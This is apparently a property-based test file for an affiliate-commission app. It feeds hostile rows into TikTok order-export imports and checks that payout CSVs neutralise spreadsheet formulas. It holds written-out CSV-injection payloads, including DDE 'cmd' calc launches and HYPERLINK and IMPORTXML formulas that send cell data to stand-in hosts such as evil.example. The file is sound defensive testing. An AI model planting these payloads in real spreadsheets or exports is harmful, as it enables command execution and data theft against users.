import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { beforeAll, expect, it } from 'vitest';
import { backfillTikTok } from '../../src/services/backfill/backfill.js';
import { addInfluencer } from '../../src/services/records/influencers.js';
import { payout } from '../../src/services/payouts/payout.js';
import { validate } from '../../src/services/payouts/validate.js';
import { describeBackends } from '../helpers/db.js';
import { ORDERS_CSV, writeExport } from '../helpers/exports.js';
import { insertMerchant, insertSales } from '../helpers/sales-builder.js';
import { seedWorld } from '../helpers/world.js';
import { recordFault } from './report.js';
import { lookalike } from './helpers/hostile-inputs.js';
import { sampleOf, Tally } from './helpers/hostile-kit.js';

/**
 * The real parsers: hostile rows in a TikTok Seller Center export (each must come back as a
 * per-line error in the backfill report and create no sale; a lookalike TRACK code in a buyer
 * message is free text, so that order is imported but unattributed), and spreadsheet formulas
 * in influencer names and e-mails (each must come out of `payout`'s CSV neutralised, as text).
 */
const RUNS = Number(process.env.FAULT_RUNS ?? 150);
const FORMULA = /^[=+\-@\t\r]/;

const fixtureText = await readFile(ORDERS_CSV, 'utf8');
const fixtureLines = fixtureText.split('\r\n');
const header = fixtureLines[0]!.replace(/^\uFEFF/, '').split(',');
const template = fixtureLines.find((l) => l.startsWith('576461413038785752'))!.split(',');
const body = fixtureLines.at(-1) === '' ? fixtureLines.slice(0, -1) : fixtureLines;
// Physical lines (the fixture has a buyer message over two), so the first appended row is this one.
const firstAppendedLine = body.join('\r\n').split('\n').length + 1;
const col = (name: string) => {
  const i = header.indexOf(name);
  if (i < 0) throw new Error(`no column ${name}`);
  return i;
};

const INJECTIONS = [
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
];

/** Money cells with a letter where a digit belongs (a letter O for a zero, an l for a one) or stray text. */
const MISTYPED = [
  '12,5O',
  '39.9O',
  '1O.00',
  'l2.50',
  '$39.9O',
  'USD 1O.00',
  '39.90 O',
  '3 9.9O',
  '39.90x',
  '39,90 EURO',
];

/** One hostile row: which cell, what it holds, and whether the row must be refused (else imported unattributed). */
type Mutation = { column: string; value: string; refused: boolean; unbalanced?: boolean };
const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc
    .constantFrom(
      '1e308',
      '99999999999999999999',
      'NaN',
      'Infinity',
      '-39.90',
      '($39.90)',
      '39.905',
      '=1+1',
      '@SUM(A1)',
      'XXX 39.90',
      '39.90 ZZZ',
      '$-39.90',
      ...MISTYPED,
      ...INJECTIONS,
    )
    .map((value) => ({ column: 'SKU Subtotal After Discount', value, refused: true })),
  // A letter typed for a digit in any money cell is refused, never read as the digit or dropped.
  fc
    .constantFrom('Order Amount', 'Order Refund Amount', 'Taxes')
    .chain((column) => fc.constantFrom(...MISTYPED).map((value) => ({ column, value, refused: true }))),
  fc
    .constantFrom(...INJECTIONS, 'АВС576461413038785', '5764614130387857５2', 'x'.repeat(10_000))
    .map((value) => ({ column: 'Order ID', value, refused: true })),
  fc
    .constantFrom('31/31/2026 9:07:33 PM', '=NOW()', 'NaN', '10/01/99999 9:07:33 PM', ...INJECTIONS)
    .map((value) => ({ column: 'Created Time', value, refused: true })),
  fc
    .constantFrom('Delivered\u200b', 'Dеlivered', ...INJECTIONS)
    .map((value) => ({ column: 'Order Status', value, refused: true })),
  fc
    .constantFrom('Product Name', 'Buyer Message', 'SKU Subtotal After Discount', 'Order Status')
    .map((column) => ({ column, value: '', refused: true, unbalanced: true })),
  fc
    .constantFrom('ABC12345', 'ZX9Q77')
    .chain(lookalike)
    .map((code) => ({ column: 'Buyer Message', value: `=cmd|' /C calc'!A0 TRACK:${code}`, refused: false })),
);

const quoteIfNeeded = (v: string) => (/[",\r\n]/.test(v) ? `"${v.replaceAll('"', '""')}"` : v);

describeBackends('hostile files', (t, backend) => {
  let merchantId: string;
  beforeAll(async () => {
    merchantId = (await seedWorld(t().db)).merchant.id;
  });

  it('TikTok exports: hostile rows are per-line errors, never sales', async () => {
    // One unclosed quote per file: a second quote would close the first (valid CSV, one odd cell).
    const files = fc
      .array(mutation, { minLength: 1, maxLength: 4 })
      .filter((ms) => ms.filter((m) => m.unbalanced).length <= 1);
    const { inputs, seed } = sampleOf(files, Math.ceil(RUNS / 4));
    const tally = new Tally();
    for (const [f, mutations] of inputs.entries()) {
      // An unclosed quote swallows the rest of the file, so it goes last.
      const rows = [...mutations].sort((a, b) => Number(Boolean(a.unbalanced)) - Number(Boolean(b.unbalanced)));
      const planted = rows.map((m, i) => {
        const id = `57646141303878${String(f).padStart(3, '0')}${i}`;
        const cells = template.map((c) => c.replaceAll('576461413038785752', id));
        if (m.unbalanced) cells[col(m.column)] = `"${cells[col(m.column)]}`;
        else cells[col(m.column)] = quoteIfNeeded(m.value);
        return { m, id: m.column === 'Order ID' ? m.value : id, line: firstAppendedLine + i, text: cells.join(',') };
      });
      const path = writeExport(`hostile-${seed}-${f}.csv`, [...body, ...planted.map((p) => p.text), ''].join('\r\n'));
      let errors: { line: number; message: string }[] = [];
      let crashed = '';
      try {
        errors = [...(await backfillTikTok(t().db, { merchantId, files: [path] })).errors];
      } catch (err) {
        crashed = String(err);
      }
      // The order open when an unclosed quote hits (rows without a valid id do not close it) may be
      // missing rows, so the reader refuses it too: conservative, and still nothing is attributed.
      const fatal = planted.some((p) => p.m.unbalanced);
      for (const p of planted) {
        const sale = await t()
          .db.selectFrom('sales')
          .select(['influencer_id', 'commission_minor'])
          .where('merchant_id', '=', merchantId)
          .where('external_order_id', '=', p.id.trim())
          .executeTakeFirst();
        const lineError = errors.some((e) => e.line === p.line);
        const refusedOk = lineError && sale === undefined;
        const unattributedOk =
          !lineError && sale !== undefined && sale.influencer_id === null && sale.commission_minor === null;
        const ok = crashed === '' && (p.m.refused ? refusedOk : unattributedOk || (fatal && refusedOk));
        tally.note(
          ok,
          () =>
            `${crashed} ${p.m.column}=${JSON.stringify(p.m.value.slice(0, 60))}${p.m.unbalanced ? ' (unclosed quote)' : ''} line ${p.line}: ${JSON.stringify(errors.filter((e) => e.line === p.line).map((e) => e.message))} sale ${JSON.stringify(sale, (_, v) => (typeof v === 'bigint' ? String(v) : v))}`,
        );
      }
    }
    // Nothing credited: a backfill only records pending sales.
    const ledger = await t()
      .db.selectFrom('ledger_entries')
      .select((eb) => eb.fn.countAll<string>().as('n'))
      .executeTakeFirstOrThrow();
    recordFault({
      section: 'hostile',
      check: 'TikTok export rows',
      backend,
      tried: tally.tried,
      held: Number(ledger.n) === 0 ? tally.held : 0,
      lost: 0,
      note: `${inputs.length} files, seed ${seed}`,
    });
    expect(tally.misses, `FAULT_SEED=${seed}`).toEqual([]);
    expect(Number(ledger.n)).toBe(0);
  });

  it('payout CSV: formulas in names and e-mails come out as text', async () => {
    const formula = fc.tuple(
      fc.constantFrom('=', '+', '-', '@'),
      fc.constantFrom(
        ...INJECTIONS.map((s) => s.slice(1)),
        '1+1',
        'SUM(A1:A9)',
        'IMPORTXML(CONCAT("http://x/?",A1),"//a")',
      ),
      fc.constantFrom('', '   ', '\u00a0'),
    );
    const person = fc.record({
      name: formula.map(([p, rest, pad]) => `${pad}${p}${rest}`),
      email: fc.option(
        fc
          .tuple(fc.constantFrom('=', '+', '-'), fc.stringMatching(/^[a-z0-9|!(]{1,20}$/))
          .map(([p, local]) => `${p}${local}@evil.example`),
        { nil: undefined },
      ),
      sepa: fc.boolean(),
    });
    const { inputs, seed } = sampleOf(fc.array(person, { minLength: 20, maxLength: 20 }), 1);
    const people = inputs[0]!;
    const db = t().db;
    const merchant = await insertMerchant(db, { currency: 'EUR', holdDays: 0 });
    const ids: string[] = [];
    for (const p of people) {
      const inf = await addInfluencer(db, {
        name: p.name,
        ...(p.email && { email: p.email }),
        ...(p.sepa
          ? { iban: 'DE89370400440532013000', bic: 'COBADEFFXXX' }
          : { paypalEmail: p.email ?? '-pay@evil.example' }),
      });
      ids.push(inf.id);
    }
    const orderedAt = new Date('2026-01-01T00:00:00Z');
    await insertSales(
      db,
      ids.map((influencerId) => ({ merchantId: merchant, influencerId, orderedAt, baseMinor: 100_000n })),
    );
    const asOf = new Date('2026-02-01T00:00:00Z');
    await validate(db, { asOf });
    const out = await mkdtemp(join(tmpdir(), 'tracknow-hostile-payout-'));
    try {
      const run = await payout(db, {
        asOf,
        outDir: out,
        sepaDebtor: { name: 'Glow Cosmetics GmbH', iban: 'DE02120300000000202051', bic: 'BYLADEM1001' },
      });
      expect(run.ids.length).toBe(people.length);
      const csvName = (await readdir(out)).find((f) => f.endsWith('.csv'))!;
      const rows = parse(await readFile(join(out, csvName), 'utf8'), { relax_column_count: false }) as string[][];
      const [head, ...data] = rows;
      const at = (name: string) => head!.indexOf(name);
      const tally = new Tally();
      for (const [i, p] of people.entries()) {
        const row = data.find((r) => r[at('influencer_id')] === ids[i]);
        // Each hostile value must be in its cell, prefixed with ' (shown as text), and no cell of the row may start a formula.
        const expectText = (cell: string | undefined, value: string) =>
          cell === (FORMULA.test(value) ? `'${value}` : value);
        const values: [string, string][] = [
          ['name', p.name.trim()],
          ...(p.email ? [['email', p.email] as [string, string]] : []),
        ];
        for (const [column, value] of values) {
          const cell = row?.[at(column)];
          tally.note(
            row !== undefined && expectText(cell, value) && row.every((c) => !FORMULA.test(c)),
            () => `${column} ${JSON.stringify(value)} → ${JSON.stringify(cell)}`,
          );
        }
      }
      recordFault({
        section: 'hostile',
        check: 'CSV injection in payout CSV',
        backend,
        tried: tally.tried,
        held: tally.held,
        lost: 0,
        note: `${people.length} payees, seed ${seed}`,
      });
      expect(tally.misses, `FAULT_SEED=${seed}`).toEqual([]);
    } finally {
      await rm(out, { recursive: true, force: true });
    }
  });
});
